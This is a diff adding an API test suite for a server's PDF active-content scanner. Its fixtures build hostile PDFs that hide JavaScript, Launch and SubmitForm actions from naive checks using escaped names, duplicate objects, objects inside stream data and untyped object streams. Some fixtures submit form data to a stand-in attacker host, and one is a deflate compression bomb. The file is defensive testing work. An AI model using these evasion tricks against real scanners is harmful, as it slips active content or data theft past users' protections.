@@ -1,0 +1,157 @@
+import { once } from 'node:events';
+import { createDeflate } from 'node:zlib';
+import { expect } from 'chai';
+import mongoose from 'mongoose';
+import { scanPdf } from '../../server/src/files/pdf-scan';
+import type { RunningServer } from '../../server/src/server';
+import type { ApiClient } from '../support/api-client';
+import { createCorrespondents, createFolder, setFolderAccess } from '../support/fixtures';
+import { downloadFile, memoType, uploadFile } from '../support/files';
+import { buildPdf, pageObjects, pdfWithObjectStream, streamBody } from '../support/hostile-pdf';
+import { signedIn, startTestServer } from '../support/server';
+
+const PASSWORD = 'secret-password-1';
+const ACTIVE = 'В документе есть активное содержимое: откройте его после скачивания';
+
+/** `megabytes` of spaces, deflated (a few hundred kilobytes), without holding them. */
+async function deflatedSpaces(megabytes: number): Promise<Buffer> {
+  const deflate = createDeflate({ level: 9 });
+  const out: Buffer[] = [];
+  deflate.on('data', (chunk: Buffer) => out.push(chunk));
+  const block = Buffer.alloc(1024 * 1024, 0x20);
+  for (let written = 0; written < megabytes; written += 1) if (!deflate.write(block)) await once(deflate, 'drain');
+  deflate.end();
+  await once(deflate, 'end');
+  return Buffer.concat(out);
+}
+
+/** Hostile PDFs that ran their script (or would send the form) in Chromium's or pdf.js's viewer while the earlier check called them plain. */
+function hostilePdfs(): Record<string, Buffer> {
+  const script = "<< /S /JavaScript /JS (app.alert('x')) >>";
+  const opening = (object6: string, title: string) => buildPdf([...pageObjects(title, { catalog: '/OpenAction 6 0 R' }), [6, object6]]);
+  const hidden = Buffer.from(`6 0 obj\n${script}\nendobj\n`, 'latin1');
+  const carrier = Buffer.concat([Buffer.from('% padding\n'), hidden, Buffer.from('% padding\n')]);
+  const inStream = buildPdf([...pageObjects('Hidden in stream', { catalog: '/OpenAction 6 0 R' }), [7, streamBody(carrier)]], {
+    offsets: { 6: (written) => written.indexOf(hidden) },
+  });
+  return {
+    // Lowercase hex escapes in names: /#4aS is /JS to a viewer.
+    'hex-lower': opening("<< /S /#4aavaScript /#4aS (app.alert('x')) >>", 'Hex lower'),
+    'names-lower': buildPdf([...pageObjects('Names tree', { catalog: '/Names << /#4aavaScript << /Names [(x) 6 0 R] >> >>' }), [6, script]]),
+    'launch-lower': opening('<< /S /#4caunch /F (calc.exe) >>', 'Launch'),
+    'submit-lower': opening('<< /S /Sub#6ditForm /F << /FS /URL /F (https://attacker.example/c) >> >>', 'Submit'),
+    // The same object number twice: the cross-reference table points at the first (the script), a reader going top to bottom keeps the second.
+    duplicate: buildPdf([...pageObjects('Duplicate', { catalog: '/OpenAction 6 0 R' }), [6, script], [6, '<< /S /GoTo /D [3 0 R /Fit] >>']]),
+    // An object inside another stream's data, which /Length tells a reader to skip.
+    'in-stream': inStream,
+    // The action type given by reference.
+    'indirect-S': buildPdf([
+      ...pageObjects('Indirect S', { catalog: '/OpenAction 6 0 R' }),
+      [6, '<< /S 8 0 R /F << /FS /URL /F (https://attacker.example/c) >> >>'],
+      [8, '/SubmitForm'],
+    ]),
+    // Object streams whose /Type is escaped, or missing (pdf.js needs only /N and /First).
+    'objstm-escaped-type': pdfWithObjectStream('ObjStm escaped', '/OpenAction 6 0 R', script, '/Type /#4fbjStm'),
+    'objstm-no-type': pdfWithObjectStream('ObjStm no type', '/OpenAction 6 0 R', script, ''),
+    xfa: buildPdf([
+      ...pageObjects('XFA', { catalog: '/AcroForm 6 0 R' }),
+      [6, '<< /Fields [] /XFA 7 0 R >>'],
+      [7, streamBody(Buffer.from('<xdp:xdp><script>app.alert(1)</script></xdp:xdp>'))],
+    ]),
+    screen: buildPdf([...pageObjects('Screen', { page: '/Annots [6 0 R]' }), [6, '<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /OP 0 >> >>']]),
+    '3d': buildPdf([
+      ...pageObjects('3D', { page: '/Annots [6 0 R]' }),
+      [6, '<< /Type /Annot /Subtype /3D /Rect [0 0 10 10] /3DD 7 0 R >>'],
+      [7, streamBody(Buffer.from('x'), '/Type /3D /Subtype /U3D /OnInstantiate 8 0 R')],
+      [8, streamBody(Buffer.from('x'))],
+    ]),
+  };
+}
+
+describe('files on cards: PDFs with active content (API)', function () {
+  this.timeout(180_000);
+  let server: RunningServer;
+  let admin: ApiClient;
+  let editor: ApiClient;
+  let folderId: string;
+
+  const upload = async (client: ApiClient, name: string, content: Buffer) => {
+    const answer = await uploadFile(client, server.url, { folderId, typeKey: 'memo', field: 'attachment' }, { name, content });
+    expect(answer.status, JSON.stringify(answer.body)).to.equal(201);
+    return answer.body.file!;
+  };
+
+  before(async () => {
+    server = await startTestServer();
+    admin = await signedIn(server);
+    const scenario = await createCorrespondents(admin, PASSWORD, [{ login: 'editor', fullName: 'Татьяна Гончаренко', level: 'edit' }]);
+    await admin.data('mutation($d: CardTypeInput!) { createCardType(definition: $d) { key } }', { d: memoType });
+    folderId = await createFolder(admin, { libraryId: scenario.libraryId, name: 'Заметки', allowedCardTypes: ['memo'] });
+    await setFolderAccess(admin, folderId, [{ principalId: scenario.userIds.editor, level: 'edit' }]);
+    editor = await signedIn(server, 'editor', PASSWORD);
+  });
+  after(async () => {
+    await server?.stop();
+  });
+
+  it('flags PDFs that hide scripts from a reader (escaped names, duplicate objects, objects in stream data, untyped object streams, XFA, media): never opened inline', async () => {
+    const clean = await upload(admin, 'clean.pdf', buildPdf(pageObjects('Clean document')));
+    expect(clean.activeContent).to.equal(false);
+    const opened = await downloadFile(admin, server.url, `${clean.url}?inline=1`);
+    expect(opened.status).to.equal(200);
+    // Defence in depth: the viewer's document is sandboxed too (Chromium's viewer still shows it).
+    expect(opened.headers.get('content-security-policy')).to.match(/; sandbox$/);
+
+    const verdicts: Record<string, [boolean, number]> = {};
+    for (const [name, content] of Object.entries(hostilePdfs())) {
+      const file = await upload(admin, `${name}.pdf`, content);
+      verdicts[name] = [file.activeContent, (await downloadFile(admin, server.url, `${file.url}?inline=1`)).status];
+    }
+    expect(verdicts).to.deep.equal(Object.fromEntries(Object.keys(hostilePdfs()).map((name) => [name, [true, 422]])));
+  });
+
+  it('judges again a version judged plain by an older check before opening it inline', async () => {
+    const file = await upload(
+      admin,
+      'старый.pdf',
+      buildPdf([...pageObjects('Old verdict', { catalog: '/OpenAction 6 0 R' }), [6, "<< /S /#4aavaScript /#4aS (app.alert('x')) >>"]]),
+    );
+    // As the earlier check left it: plain, with no check version.
+    await mongoose.connection.db!.collection('files').updateOne({ _id: new mongoose.Types.ObjectId(file.id) }, { $set: { activeContent: false }, $unset: { activeCheck: '' } });
+    const inline = await downloadFile(admin, server.url, `${file.url}?inline=1`, { accept: 'text/html' });
+    expect(inline.status).to.equal(422);
+    expect(inline.bytes.toString()).to.include(ACTIVE);
+    const listed = await admin.data<{ files: { activeContent: boolean }[] }>('query($ids: [ID!]!) { files(ids: $ids) { activeContent } }', { ids: [file.id] });
+    expect(listed.files).to.deep.equal([{ activeContent: true }]);
+  });
+
+  it('checks a compression bomb off the main thread: others are answered meanwhile, and the bomb counts as active', async () => {
+    // An object stream that inflates to 160 MB (over the check's 128 MB), from a few hundred kilobytes.
+    const packed = await deflatedSpaces(160);
+    const bomb = buildPdf([...pageObjects('Bomb'), [7, streamBody(packed, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')]]);
+    expect(bomb.length).to.be.below(1024 * 1024);
+    let uploadAnswered = false;
+    const answer = uploadFile(editor, server.url, { folderId, typeKey: 'memo', field: 'attachment' }, { name: 'бомба.pdf', content: bomb }).then((result) => {
+      uploadAnswered = true;
+      return result;
+    });
+    // The bytes are stored and the check has begun (the version is pending with no verdict yet) …
+    const files = mongoose.connection.db!.collection('files');
+    while (!(await files.findOne({ name: 'бомба.pdf', state: 'pending', activeCheck: null })) && !uploadAnswered) await new Promise((resolve) => setTimeout(resolve, 5));
+    expect(uploadAnswered, 'the upload was answered before its check was seen under way').to.equal(false);
+    // … and another user's request is answered while it runs.
+    const other = await admin.data<{ __typename: string }>('{ __typename }');
+    expect(other.__typename).to.equal('Query');
+    expect(uploadAnswered).to.equal(false);
+    const result = await answer;
+    expect(result.status).to.equal(201);
+    expect(result.body.file!.activeContent).to.equal(true);
+    expect((await downloadFile(editor, server.url, `${result.body.file!.url}?inline=1`)).status).to.equal(422);
+  });
+
+  it('counts a PDF over the object or inflated-bytes limits as active', () => {
+    const many = buildPdf([...pageObjects('Many'), ...Array.from({ length: 20 }, (_, index): [number, string] => [10 + index, '<< >>'])]);
+    expect(scanPdf(many)).to.equal(null);
+    expect(scanPdf(many, { objects: 10, inflatedBytes: 1024 })).to.equal('more than 10 objects');
+  });
+});
